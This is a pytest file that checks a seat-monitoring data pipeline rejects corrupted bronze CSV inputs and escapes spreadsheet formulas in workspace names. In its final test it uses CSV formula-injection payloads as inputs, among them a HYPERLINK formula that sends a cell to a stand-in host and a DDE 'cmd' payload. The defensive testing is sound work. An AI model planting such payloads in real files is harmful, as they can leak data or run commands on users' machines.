"""Bad inputs through the real runner: a bronze file corrupted after the day was built, then
``run_daily.sh --stage silver gold load report`` and ``run_daily.sh --backfill`` on it.

The demo builds three days (two of history, then the run of the last). Each case corrupts the
last day's bronze as an adversary would (still valid CSV, the right types), and both ways of
rebuilding the day must stop with exit 1 and a message naming the source, the figures and the
override, while every silver and gold file, ``gold/seat_status_latest.csv`` and the warehouse
stay exactly as the clean run left them. Then the override (``--allow-drop``), a client-id
pattern that fits no workspace (exit 2 before any stage), and spreadsheet formulas in a
workspace name (neutralised in the latest file only).
"""

from __future__ import annotations

import dataclasses
from datetime import date, timedelta
from pathlib import Path

import pytest

from seatlib.core import config as cfg
from seatlib.run import runner
from seatlib.systems.lake import bronze_key
from seatlib.sim import postgres as pg
from tests.fixtures.demo import outside_pytest_tmp, safe_demo_config, tree

pytestmark = pytest.mark.slow

LAST = date(2026, 11, 16)
DAYS = [LAST - timedelta(days=2), LAST - timedelta(days=1), LAST]
SCHEMA = "seat_monitor"


@dataclasses.dataclass
class Built:
    config: Path
    settings: cfg.Settings
    home: Path
    clean_lake: dict[str, bytes]
    clean_rows: list[str]

    @property
    def lake(self) -> Path:
        return Path(self.settings.lake_url)

    def bronze(self, source: str) -> Path:
        return self.lake / bronze_key(source, LAST)

    def rows(self) -> list[str]:
        """Every row of both warehouse tables, as text, sorted."""
        import psycopg

        server = pg.start_postgres(self.home / "pg")
        try:
            with psycopg.connect(server.dsn()) as conn:
                return sorted(f"{table} {row!r}" for table in ("seat_status_daily", "seat_capacity_daily")
                              for row in conn.execute(f"SELECT * FROM {SCHEMA}.{table}").fetchall())
        finally:
            server.stop()

    def log(self, day: date = LAST) -> str:
        return (Path(self.settings.runs_dir) / day.isoformat() / "latest" / "run.log").read_text()

    def run(self, *args: str) -> int:
        return runner.main(["--demo", "--config", str(self.config), *args])


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    folder = tmp_path_factory.mktemp("bad_inputs")
    with outside_pytest_tmp() as home:
        config = safe_demo_config(folder, home, history_days=len(DAYS) - 1)
        assert runner.main(["--demo", "--config", str(config), "--date", LAST.isoformat()]) == 0
        settings = cfg.load_settings(config, env={})
        b = Built(config, settings, home, tree(Path(settings.lake_url)), [])
        b.clean_rows = b.rows()
        yield b


def _keep_rows(share: float):
    def edit(text: str) -> str:
        lines = text.rstrip("\n").split("\n")
        return "\n".join(lines[: 1 + int((len(lines) - 1) * share)]) + "\n"
    return edit


def _seats(allocated: str, used: str):
    def edit(text: str) -> str:
        return "\n".join(f"users,{allocated},{used}," if line.startswith("users,") else line
                         for line in text.split("\n"))
    return edit


#: case -> (source, edit of the last day's bronze, what the run log must say)
CASES = {
    "users-cut-short": ("zoho_users", _keep_rows(0.44),
                        [f"zoho_users (silver of {LAST}): ", " rows against ",
                         f"already there for {LAST}, a drop of 5", "(limit 30%)",
                         "re-run with --allow-drop"]),
    "module-status-header-only": ("module_status", _keep_rows(0),
                                  [f"module_status (silver of {LAST}): no rows to write",
                                   "re-run with --allow-drop"]),
    "seats-allocated-negative": ("zoho_seats", _seats("-70", "70"),
                                 [f"zoho_seats (silver of {LAST}): allocated should be above 0; "
                                  f"allocated/used ['-70/70']", "correct the file or the source"]),
    "seats-used-absurd": ("zoho_seats", _seats("70", "99999"),
                          ["used should be at most 2 x allocated; allocated/used ['70/99999']"]),
}


def _unchanged_but(built: Built, edited: Path) -> list[str]:
    """Keys of the lake that differ from the clean run, the edited bronze file aside."""
    now, clean = data_files(tree(built.lake)), data_files(built.clean_lake)
    skip = edited.relative_to(built.lake).as_posix()
    keys = (set(now) | set(clean)) - {skip}
    return sorted(k for k in keys if now.get(k) != clean.get(k))


def data_files(lake: dict[str, bytes]) -> dict[str, bytes]:
    """The lake without its run history (runs/, runs_ledger/), to which every run adds."""
    return {k: v for k, v in lake.items() if not k.startswith(("runs/", "runs_ledger/"))}


@pytest.mark.parametrize("case", list(CASES))
@pytest.mark.parametrize("how", ["stages", "backfill"])
def test_corrupted_bronze_replaces_nothing(built, case, how):
    source, edit, says = CASES[case]
    path = built.bronze(source)
    good = path.read_bytes()
    path.write_text(edit(good.decode()))
    try:
        argv = (["--date", LAST.isoformat(), "--stage", "silver", "gold", "load", "report"]
                if how == "stages" else ["--backfill", LAST.isoformat(), LAST.isoformat()])
        assert built.run(*argv) == runner.EXIT_STAGE_FAILED
        assert _unchanged_but(built, path) == []
        assert built.rows() == built.clean_rows
        log = built.log()
        for text in says:
            assert text in log, log[-2000:]
        assert "stage silver failed" in log
    finally:
        path.write_bytes(good)


def test_a_client_id_pattern_that_fits_no_workspace_stops_before_any_stage(built, capsys):
    text = built.config.read_text().replace("[zoho]\n", "[zoho]\nclient_id_pattern = '^ID-(\\d+)'\n")
    bad = built.config.with_name("bad-pattern.toml")
    bad.write_text(text)
    rc = runner.main(["--demo", "--config", str(bad), "--date", LAST.isoformat(), "--stage",
                      "gold", "load", "report"])
    assert rc == runner.EXIT_CONFIG
    assert "[zoho] client_id_pattern '^ID-(\\\\d+)' finds no client id in any of the" in capsys.readouterr().err
    assert data_files(tree(built.lake)) == data_files(built.clean_lake)


def test_allow_drop_lets_a_cut_file_through_and_says_so_in_run_log(built):
    path = built.bronze("zoho_users")
    good = path.read_bytes()
    path.write_text(_keep_rows(0.44)(good.decode()))
    try:
        assert built.run("--date", LAST.isoformat(), "--stage", "silver", "gold", "load",
                         "report", "--allow-drop") == runner.EXIT_OK
        log = built.log()
        assert "--allow-drop: the empty, drop and unmatched-share guards" in log
        assert f"stage silver let through: zoho_users (silver of {LAST}): " in log
        assert "(allowed by --allow-drop)" in log
    finally:  # and back: the good file rebuilds the clean day, byte for byte
        path.write_bytes(good)
    assert built.run("--date", LAST.isoformat(), "--stage", "silver", "gold", "load", "report",
                     "--allow-drop") == runner.EXIT_OK
    assert _unchanged_but(built, path) == []
    assert built.rows() == built.clean_rows


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"renew")', "+SUM(1+1)", "=cmd|' /C calc'!A0"]


def test_formulas_in_names_are_neutralised_in_the_latest_file_only(built):
    import csv
    import io

    path = built.bronze("zoho_workspace_admins")
    good = path.read_bytes()
    rows = list(csv.reader(io.StringIO(good.decode())))
    header = rows[0]
    name, email = header.index("workspace_name"), header.index("admin_email")
    for row, formula in zip(rows[1:4], FORMULAS):  # three workspaces get adversarial names
        row[name] = formula
    rows[4][email] = "=cmd|' /C calc'!A0"
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_text(buf.getvalue())
    try:
        assert built.run("--date", LAST.isoformat(), "--stage", "silver", "gold", "load",
                         "report") == runner.EXIT_OK
        latest = (built.lake / "gold" / "seat_status_latest.csv").read_text()
        daily = (built.lake / "gold" / "seat_status" / f"{LAST}.csv").read_text()
        for formula in FORMULAS:
            cell = formula.replace('"', '""')
            assert f"'{cell}" in latest
            assert f",{cell}" in daily or f',"{cell}' in daily  # the loading file keeps it raw
            assert f"'{cell}" not in daily
        assert any(formula in row for row in built.rows() for formula in FORMULAS[1:])
    finally:
        path.write_bytes(good)
    assert built.run("--date", LAST.isoformat(), "--stage", "silver", "gold", "load",
                     "report") == runner.EXIT_OK
    assert _unchanged_but(built, path) == []
